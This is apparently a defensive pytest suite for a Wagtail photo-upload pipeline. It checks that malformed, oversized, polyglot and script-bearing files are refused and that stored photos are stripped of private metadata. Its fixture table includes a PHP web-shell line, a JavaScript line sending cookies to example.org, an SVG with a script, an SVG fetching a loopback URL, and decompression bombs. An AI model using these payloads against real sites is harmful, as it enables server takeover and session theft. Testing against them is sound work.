"""No way into the library takes a bad file: single and multiple upload, the chooser, and replacing a file."""

import json
import struct
import zlib
from io import BytesIO
from pathlib import Path

import pillow_heif
import pytest
from PIL import Image
from PIL.ExifTags import Base

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from wagtail.models import UploadedFile

from accounts.roles import Role
from photos.ingest import upright_size
from photos.models import Photo
from photos.private import private_storage
from tests import factories
from tests.test_photos_ingest import SECRET, encoded, heic, opened

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("whole_worker")]


def chunk(kind, data, checksum=None):
    checksum = zlib.crc32(kind + data) if checksum is None else checksum
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


def png(width, height, *extra, scanlines=b""):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = [chunk(b"IHDR", header), *extra, chunk(b"IDAT", zlib.compress(scanlines)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def noise(image_format):
    buffer = BytesIO()
    Image.effect_noise((300, 200), 80).convert("RGB").save(buffer, image_format)
    return buffer.getvalue()


def moving(image_format):
    buffer = BytesIO()
    Image.new("RGB", (9, 9)).save(buffer, image_format, save_all=True, append_images=[Image.new("RGB", (9, 9), "tan")])
    return buffer.getvalue()


def half_a_heic():
    buffer = BytesIO()
    pillow_heif.from_pillow(Image.effect_noise((300, 200), 80).convert("RGB")).save(buffer, quality=90)
    return buffer.getvalue()[:9000]


def huge_jpeg(side):
    """A JPEG of a few hundred bytes that calls itself this wide and high: the size stands in its frame header."""
    buffer = BytesIO()
    Image.new("L", (8, 8)).save(buffer, "JPEG")
    data, size = buffer.getvalue(), side.to_bytes(2)
    place = data.index(b"\xff\xc0") + 5
    return data[:place] + size + size + data[place + 4 :]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>'
OUTSIDE_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:1/secret"/></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
GREY_ROW = b"\x00" + b"\x80" * 30
TEXT_BOMB = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"a" * 80_000_000, 9))

BAD_FILES = {
    "no image": ("notes.jpg", b"Only words, no picture at all.", "not an image"),
    "empty": ("empty.jpg", b"", "empty"),
    "a web page under another name": ("page.png", HTML, "not an image"),
    "a web page that calls itself a photo": ("photo.jpg", b"<html><body><p>Hello</p></body></html>", "not an image"),
    "a page in XHTML's clothes": ("photo.jpg", b'<?xml version="1.0"?><html xmlns="x"/>', "not an image"),
    "a truncated JPEG": ("half.jpg", noise("JPEG")[:9000], "damaged"),
    "a JPEG of its header alone": ("header.jpg", noise("JPEG")[:300], "damaged"),
    "a truncated PNG": ("half.png", noise("PNG")[:9000], "damaged"),
    "a truncated WebP": ("half.webp", noise("WEBP")[:2000], "damaged"),
    "a bad checksum": ("sum.png", noise("PNG").replace(b"IEND", b"IEND")[:60] + b"\xff" + noise("PNG")[61:], "damaged"),
    "100 megapixels": ("huge.png", png(10_000, 10_000), "too many pixels"),
    "a decompression bomb": ("bomb.png", png(30_000, 30_000), "too many pixels"),
    "a compressed text bomb": ("text.png", png(10, 10, TEXT_BOMB, scanlines=GREY_ROW * 10), "damaged"),
    "an SVG with a script": ("drawing.svg", SVG, "Not a supported image format"),
    "an SVG under another name": ("drawing.png", SVG, "does not match|not an image"),
    "a script in a GIF's clothes": ("trick.gif", b"GIF89a/*" + HTML + b"*/=1;", "damaged"),
    "another format than its name says": ("photo.jpg", noise("PNG"), "does not match"),
    "a forbidden extension": ("photo.exe", noise("PNG"), "Not a supported image format"),
    "a moving GIF": ("wave.gif", moving("GIF"), "moves"),
    "a moving PNG": ("wave.png", moving("PNG"), "moves"),
    "a moving WebP": ("wave.webp", moving("WEBP"), "moves"),
    "a script under another name": ("script.jpg", b"fetch('https://example.org/' + document.cookie)", "not an image"),
    "a program for the server under another name": ("photo.jpg", b"<?php system($_GET['c']); ?>", "not an image"),
    "an SVG that fetches things": ("drawing.png", OUTSIDE_SVG, "does not match|not an image"),
    "a truncated AVIF": ("half.avif", noise("AVIF")[:2000], "damaged"),
    "a truncated HEIC": ("half.heic", half_a_heic(), "damaged"),
    "a JPEG of 30,000 by 30,000 in a few hundred bytes": ("bomb.jpg", huge_jpeg(30_000), "too many pixels"),
}


def upload_single(client, upload):
    return client.post(
        reverse("wagtailimages:add"), {"title": "A cheek at noon", "file": upload, "credit": "Ada Example"}
    )


def upload_multiple(client, upload):
    return client.post(reverse("wagtailimages:add_multiple"), {"title": "A cheek at noon", "files[]": upload})


def upload_in_chooser(client, upload):
    prefix = "image-chooser-upload"
    return client.post(
        reverse("wagtailimages_chooser:create"),
        {f"{prefix}-title": "A cheek at noon", f"{prefix}-file": upload, f"{prefix}-credit": "Ada Example"},
    )


WAYS_IN = [upload_single, upload_multiple, upload_in_chooser]


@pytest.fixture
def photo_desk(login, staff):
    return login(staff[Role.PHOTO_EDITOR])


def stored_files():
    """Every original and every master there is."""
    public = Path(settings.MEDIA_ROOT, "original_images").rglob("*.*")
    return sorted([*public, *Path(private_storage().location).rglob("*.*")])


def content_of(image):
    with image.file.open("rb") as file:
        return file.read()


def message_in(response):
    text = response.content.decode()
    return json.dumps(json.loads(text)) if response.headers["Content-Type"] == "application/json" else text


@pytest.mark.parametrize("way_in", WAYS_IN)
@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_file_is_refused_with_a_plain_message_and_nothing_is_stored(photo_desk, way_in, case):
    name, content, words = BAD_FILES[case]
    before = stored_files()
    response = way_in(photo_desk, SimpleUploadedFile(name, content, content_type="image/jpeg"))
    assert response.status_code == 200
    message = message_in(response)
    assert any(expected in message for expected in words.split("|")), message
    assert not Photo.objects.exists()
    assert stored_files() == before


@pytest.mark.parametrize("way_in", [upload_single, upload_in_chooser])
def test_what_was_typed_beside_a_refused_file_is_kept(photo_desk, way_in):
    message = message_in(way_in(photo_desk, SimpleUploadedFile("half.jpg", noise("JPEG")[:5000])))
    assert "A cheek at noon" in message
    assert "Ada Example" in message


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_photo_keeps_its_file_when_the_replacement_is_bad(photo_desk, case):
    photo = factories.photo()
    name, content, _words = BAD_FILES[case]
    upload = SimpleUploadedFile(name, content)
    response = photo_desk.post(reverse("wagtailimages:edit", args=[photo.pk]), {"title": "New title", "file": upload})
    assert response.status_code == 200
    kept = Photo.objects.get()
    assert kept.title == photo.title
    assert opened(content_of(kept)).size == (64, 48)


@pytest.mark.parametrize("way_in", WAYS_IN)
@pytest.mark.parametrize(
    ("name", "content"),
    [("phone.jpg", encoded("JPEG", orientation=6)), ("cut.png", encoded("PNG")), ("IMG_1.heic", heic())],
    ids=["jpeg", "png", "heic"],  # the contents have the time in them
)
def test_what_is_stored_carries_nothing_private(photo_desk, way_in, name, content):
    assert way_in(photo_desk, SimpleUploadedFile(name, content)).status_code in (200, 302)
    assert not UploadedFile.objects.exists(), "a file parked beside the library is public and was not cleaned"
    photo = Photo.objects.get()
    data = content_of(photo)
    assert SECRET.encode() not in data
    assert set(opened(data).getexif()) <= {Base.Orientation}
    assert photo.file_size == len(data)
    assert (photo.width, photo.height) == upright_size(BytesIO(data))
    for spec in ("original", "width-30|format-jpeg", "width-30|format-webp", "width-30|format-png"):
        assert not opened(content_of(photo.get_rendition(spec))).getexif()


def test_a_replaced_file_is_cleaned_too(photo_desk):
    photo = factories.photo()
    data = {"title": photo.title, "file": SimpleUploadedFile("new.jpg", encoded("JPEG", orientation=6))}
    assert photo_desk.post(reverse("wagtailimages:edit", args=[photo.pk]), data).status_code == 302
    photo = Photo.objects.get(replaces=photo)
    assert SECRET.encode() not in content_of(photo)
    assert (photo.width, photo.height) == (32, 48)


def test_a_file_stored_without_any_form_is_cleaned_too():
    photo = factories.photo(file=SimpleUploadedFile("phone.jpg", encoded("JPEG", orientation=8)))
    photo.file.save("again.jpg", BytesIO(encoded("JPEG")), save=False)
    for file in stored_files():
        assert SECRET.encode() not in file.read_bytes() or "masters" in file.parts


def test_the_day_comes_from_the_camera_unless_somebody_typed_one(photo_desk):
    upload_multiple(photo_desk, SimpleUploadedFile("phone.jpg", encoded("JPEG")))
    assert str(Photo.objects.get().taken_on) == "2026-05-17"
    Photo.objects.all().delete()
    upload = SimpleUploadedFile("phone.jpg", encoded("JPEG"))
    photo_desk.post(reverse("wagtailimages:add"), {"title": "Noon", "file": upload, "taken_on": "2026-01-02"})
    assert str(Photo.objects.get().taken_on) == "2026-01-02"


def test_the_same_file_uploaded_twice_is_noticed(photo_desk):
    upload_single(photo_desk, SimpleUploadedFile("phone.jpg", encoded("JPEG")))
    answer = upload_multiple(photo_desk, SimpleUploadedFile("again.jpg", encoded("JPEG"))).json()
    assert answer["duplicate"]


def test_a_picture_of_the_largest_size_allowed_is_taken(photo_desk):
    buffer = BytesIO()
    Image.new("L", (8_000, settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS // 8_000)).save(buffer, "JPEG", quality=10)
    upload_single(photo_desk, SimpleUploadedFile("wall.jpg", buffer.getvalue()))
    assert Photo.objects.get().width == 8_000


@pytest.mark.parametrize(
    ("role", "may_add"),
    [(Role.WRITER, True), (Role.COPY_EDITOR, True), (Role.MEDICAL_REVIEWER, False), (Role.COMMENT_MODERATOR, False)],
)
def test_only_roles_with_the_right_may_upload(login, staff, role, may_add):
    upload_single(login(staff[role]), factories.image_file())
    assert Photo.objects.exists() == may_add


@pytest.mark.parametrize("way_in", WAYS_IN)
def test_a_file_larger_than_the_house_allows_is_refused_with_the_limit(photo_desk, way_in, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 5_000
    message = message_in(way_in(photo_desk, SimpleUploadedFile("large.jpg", noise("JPEG"))))
    assert "This file is too big" in message
    assert "4.9" in message
    assert not Photo.objects.exists()


@pytest.mark.parametrize("behind", [HTML, b"PK\x03\x04" + b"a program in an archive", b"%PDF-1.7 a document"])
def test_of_a_picture_that_is_something_else_too_only_the_picture_is_shown(photo_desk, behind):
    upload_multiple(photo_desk, SimpleUploadedFile("both.jpg", encoded("JPEG") + behind))
    photo = Photo.objects.get()
    assert behind not in content_of(photo)
    assert behind not in content_of(photo.get_rendition("width-20"))


@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow's, about exactly this
@pytest.mark.parametrize(
    "options",
    [
        {"exif": b"Exif\x00\x00" + b"\xff" * 60_000},
        {"xmp": b"<a>" * 20_000},
        {"xmp": b"\xff\xfe\x00\xd8"},
        {"comment": b"\x00" * 60_000},
        {"icc_profile": b"\xff" * 200_000},
    ],
    ids=["garbage in EXIF", "garbage in XMP", "no letters in XMP", "garbage in a comment", "garbage for a profile"],
)
def test_a_photo_with_hostile_metadata_is_taken_without_it(photo_desk, options):
    buffer = BytesIO()
    Image.new("RGB", (64, 48), "tan").save(buffer, "JPEG", **options)
    upload_multiple(photo_desk, SimpleUploadedFile("a.jpg", buffer.getvalue()))
    photo = Photo.objects.get()
    assert photo.found == {"says": {}, "carried": []}
    assert opened(content_of(photo.get_rendition("width-20"))).info.keys() <= {
        "jfif",
        "jfif_version",
        "jfif_unit",
        "jfif_density",
        "progressive",
        "progression",
        "xmp",
    }
